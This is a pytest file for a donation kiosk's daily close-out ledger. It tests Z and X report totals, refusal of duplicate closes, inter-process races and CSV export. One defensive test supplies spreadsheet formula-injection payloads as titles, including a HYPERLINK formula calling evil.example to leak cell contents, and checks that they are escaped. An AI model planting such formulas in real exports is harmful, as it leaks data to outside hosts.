"""Close-out (日計): the Z entry's totals are exactly `kiosk ledger report --date D --json`."""

from __future__ import annotations

import json

import pytest

from kiosk.cli import main
from kiosk.ledger import settled_report, verify_path
from kiosk.staff.closeout import AlreadyClosed, auto_close, closeout_csv, open_dates, x_report, z_report

from .conftest import DAY1, DAY2, fill_two_days


def cli_report(capsys, path, day) -> dict:  # noqa: ANN001
    capsys.readouterr()
    assert main(["ledger", "report", str(path), "--date", day.isoformat(), "--json"]) == 0
    return json.loads(capsys.readouterr().out)


def closeout_fields(rep: dict) -> dict:
    return {k: rep[k] for k in ("count", "total_yen", "first_seq", "last_seq", "projects", "methods", "points")}


def test_z_totals_equal_ledger_report_for_each_day(site, capsys):
    led = site.ledger
    seqs = fill_two_days(led, site.pepper, site.clock, site.idms)
    z1 = z_report(site.writer, DAY1)
    z2 = z_report(site.writer, DAY2)
    for z, day in ((z1, DAY1), (z2, DAY2)):
        assert z.type == "close_out" and z.data["business_date"] == day.isoformat()
        rep = cli_report(capsys, led.path, day)
        assert closeout_fields(z.data) == closeout_fields(rep)
    # Spelled out once, so a shared mistake in settled_report and the test helper cannot hide:
    # day 1 keeps 500 (kodomo, suica-terminal) + 1000 (midori, sim); the failed 100 and the voided 100 are out.
    assert z1.data["count"] == 2 and z1.data["total_yen"] == 1500
    assert z1.data["first_seq"] == seqs["d1a"] and z1.data["last_seq"] == seqs["d1b"]
    assert z1.data["projects"] == [{"id": "kodomo", "count": 1, "total_yen": 500},
                                   {"id": "midori", "count": 1, "total_yen": 1000}]
    assert z1.data["methods"] == [{"method": "sim", "count": 1, "total_yen": 1000},
                                  {"method": "suica-terminal", "count": 1, "total_yen": 500}]
    assert z2.data["count"] == 2 and z2.data["total_yen"] == 1500
    # The entries are signed and chained like every other.
    assert verify_path(led.path).ok


def test_second_z_for_a_date_is_refused_unless_forced(site):
    led = site.ledger
    fill_two_days(led, site.pepper, site.clock, site.idms)
    first = z_report(site.writer, DAY1)
    size = led.size
    with pytest.raises(AlreadyClosed) as err:
        z_report(site.writer, DAY1)
    assert err.value.seq == first.seq and led.size == size
    again = z_report(site.writer, DAY1, force=True)
    assert again.data["supersedes_seq"] == first.seq
    assert closeout_fields(again.data) == closeout_fields(first.data)


@pytest.mark.parametrize("lands", ["close_out", "donation"])
def test_a_z_raced_by_another_process_is_counted_again_inside_the_write(site, lands):
    """The menu of `kiosk run` closes DAY1 while the nightly `kiosk closeout` (another process: another Ledger on
    the same file) appends in the moment between the menu's check and its write, here while the menu's writer reads
    the clock for its entry. The append then finds its seq taken and tries again on the file as re-read: the check
    and the count must be redone there, or the day gets a second Z, or a Z that misses the other's gift."""
    from kiosk.ledger import Ledger
    from kiosk.ledger.clock import FixedClock
    from kiosk.ledger.writer import InlineWriter
    from kiosk.ops.local_files import open_ledger

    fill_two_days(site.ledger, site.pepper, site.clock, site.idms)
    site.ledger.close(checkpoint=False)
    day1 = site.clock.wall_ms() - 24 * 3600_000  # fill_two_days left the clock on DAY2
    other = Ledger.open(site.ledger.path, site.ledger._sk, site.ledger.kiosk_id, clock=FixedClock(wall_ms=day1),
                        boot=False)

    class TheOtherAppendsNow(FixedClock):
        armed = fired = False

        def wall_ms(self) -> int:
            if self.armed and not self.fired:  # once: the first clock read of the menu's close-out append
                self.fired = True
                if lands == "close_out":
                    z_report(InlineWriter(other), DAY1, trigger="timer")
                else:  # a late gift of DAY1's, settled by the other process
                    intent = other.record_intent("kodomo", 700, "sim", site.pepper.token(site.idms[0]), "late-gift")
                    other.record_donation(intent.seq, "sim-late", 7)
            return super().wall_ms()

    clock = TheOtherAppendsNow(wall_ms=day1)
    menu = open_ledger(site.cfg, clock=clock)
    clock.armed = True
    try:
        if lands == "close_out":
            with pytest.raises(AlreadyClosed):
                z_report(InlineWriter(menu), DAY1)
        else:
            z_report(InlineWriter(menu), DAY1)
        assert clock.fired
        zs = [e for e in menu.iter_entries() if e.type == "close_out" and e.data["business_date"] == DAY1.isoformat()]
        assert len(zs) == 1, [(z.seq, z.data.get("trigger")) for z in zs]
        day = settled_report([(e.seq, e.obj) for e in menu.iter_entries()], DAY1)
        assert (zs[0].data["count"], zs[0].data["total_yen"]) == (day["count"], day["total_yen"])
        assert verify_path(menu.path).ok
    finally:
        menu.close(checkpoint=False)
        other.close(checkpoint=False)


def test_x_report_writes_nothing(site):
    led = site.ledger
    fill_two_days(led, site.pepper, site.clock, site.idms)
    size = led.size
    x = x_report(led)  # today is DAY2 on the fixed clock
    assert led.size == size
    assert x["kind"] == "X" and x["date"] == DAY2.isoformat() and x["closed_seq"] is None
    assert closeout_fields(x) == closeout_fields(settled_report(((e.seq, e.obj) for e in led.iter_entries()), DAY2))


def test_timer_closes_only_ended_days_once(site):
    led = site.ledger
    fill_two_days(led, site.pepper, site.clock, site.idms)
    assert open_dates(led) == [DAY1]  # DAY2 is today: not ended
    written = auto_close(site.writer)
    assert [e.data["business_date"] for e in written] == [DAY1.isoformat()]
    assert written[0].data["trigger"] == "timer"
    assert auto_close(site.writer) == []


def test_closeout_cli_date_and_refusal(site, capsys):
    fill_two_days(site.ledger, site.pepper, site.clock, site.idms)
    site.ledger.close(checkpoint=False)  # the CLI is its own writer, as under kiosk-closeout.service
    cfg = str(site.config_path)
    capsys.readouterr()
    assert main(["closeout", "--config", cfg, "--date", DAY1.isoformat(), "--json"]) == 0
    written = json.loads(capsys.readouterr().out)
    assert closeout_fields(written) == closeout_fields(cli_report(capsys, site.cfg.ledger_path, DAY1))
    assert main(["closeout", "--config", cfg, "--date", DAY1.isoformat()]) == 1
    assert "already closed" in capsys.readouterr().err
    assert main(["closeout", "--config", cfg, "--x", "--date", DAY2.isoformat(), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["total_yen"] == 1500
    assert verify_path(site.cfg.ledger_path).ok


def test_csv_rows_add_up(site):
    fill_two_days(site.ledger, site.pepper, site.clock, site.idms)
    rep = z_report(site.writer, DAY1).data
    text = closeout_csv(rep, titles={"kodomo": "こども食堂"})
    assert text.startswith("\ufeff")
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    projects = [r for r in rows if r["row"] == "project"]
    total = next(r for r in rows if r["row"] == "total")
    assert sum(int(r["total_yen"]) for r in projects) == int(total["total_yen"]) == 1500
    assert projects[0]["title"] == "こども食堂"


def test_a_title_a_spreadsheet_would_run_is_written_as_text(site):
    # Titles come from the portal, typed by group editors: opened in Excel, "=HYPERLINK(...)" would be a live link.
    fill_two_days(site.ledger, site.pepper, site.clock, site.idms)
    rep = z_report(site.writer, DAY1).data
    import csv
    import io

    for title in ('=HYPERLINK("http://evil.example/?"&A2,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"):
        rows = list(csv.DictReader(io.StringIO(closeout_csv(rep, titles={"kodomo": title}).lstrip("\ufeff"))))
        [row] = [r for r in rows if r["row"] == "project" and r["key"] == "kodomo"]
        assert row["title"] == "'" + title
    rows = list(csv.DictReader(io.StringIO(closeout_csv(rep, titles={"kodomo": "こども食堂 -2"}).lstrip("\ufeff"))))
    assert [r["title"] for r in rows if r["row"] == "project"][0] == "こども食堂 -2"  # plain text stays as it is


def test_timer_run_of_the_cli_closes_every_ended_day(site, capsys):
    from datetime import datetime
    from zoneinfo import ZoneInfo

    import time_machine

    fill_two_days(site.ledger, site.pepper, site.clock, site.idms)
    site.ledger.close(checkpoint=False)
    capsys.readouterr()
    # 00:05 on the 23rd in Tokyo, as kiosk-closeout.timer would run it.
    with time_machine.travel(datetime(2025, 11, 23, 0, 5, tzinfo=ZoneInfo("Asia/Tokyo")), tick=False):
        assert main(["closeout", "--config", str(site.config_path), "--json"]) == 0
        written = json.loads(capsys.readouterr().out)
        assert [w["business_date"] for w in written] == [DAY1.isoformat(), DAY2.isoformat()]
        assert all(w["trigger"] == "timer" for w in written)
        assert main(["closeout", "--config", str(site.config_path)]) == 0
        assert "nothing to close" in capsys.readouterr().out


def test_a_day_staff_close_while_the_timer_runs_is_left_to_their_z_and_the_timer_closes_the_rest(site):
    """The nightly `kiosk closeout` (00:05, another process) finds DAY1 and DAY2 open; staff close DAY1 from the menu
    just then, in the moment between the timer's count and its write. The timer's write then finds DAY1 closed: that
    day has its Z (the staff's), and the timer must go on to close DAY2, not stop the run with an error and leave
    DAY2 open until the next night."""
    from datetime import timedelta

    from kiosk.ledger import Ledger
    from kiosk.ledger.clock import FixedClock
    from kiosk.ledger.writer import InlineWriter
    from kiosk.ops.local_files import open_ledger

    fill_two_days(site.ledger, site.pepper, site.clock, site.idms)
    site.ledger.close(checkpoint=False)
    now = site.clock.wall_ms()
    menu = Ledger.open(site.ledger.path, site.ledger._sk, site.ledger.kiosk_id, clock=FixedClock(wall_ms=now),
                       boot=False)

    class StaffCloseNow(FixedClock):
        armed = fired = False

        def wall_ms(self) -> int:
            if self.armed and not self.fired:  # once: the first clock read of the timer's first close-out append
                self.fired = True
                z_report(InlineWriter(menu), DAY1)
            return super().wall_ms()

    clock = StaffCloseNow(wall_ms=now)
    timer = open_ledger(site.cfg, clock=clock, boot=False)
    clock.armed = True
    try:
        written = auto_close(InlineWriter(timer), today=DAY2 + timedelta(days=1))
        assert clock.fired
        assert [(e.data["business_date"], e.data["trigger"]) for e in written] == [(DAY2.isoformat(), "timer")]
        zs = [(e.data["business_date"], e.data["trigger"]) for e in timer.iter_entries() if e.type == "close_out"]
        assert sorted(zs) == [(DAY1.isoformat(), "staff"), (DAY2.isoformat(), "timer")]
        assert auto_close(InlineWriter(timer), today=DAY2 + timedelta(days=1)) == []
        assert verify_path(timer.path).ok
    finally:
        timer.close(checkpoint=False)
        menu.close(checkpoint=False)
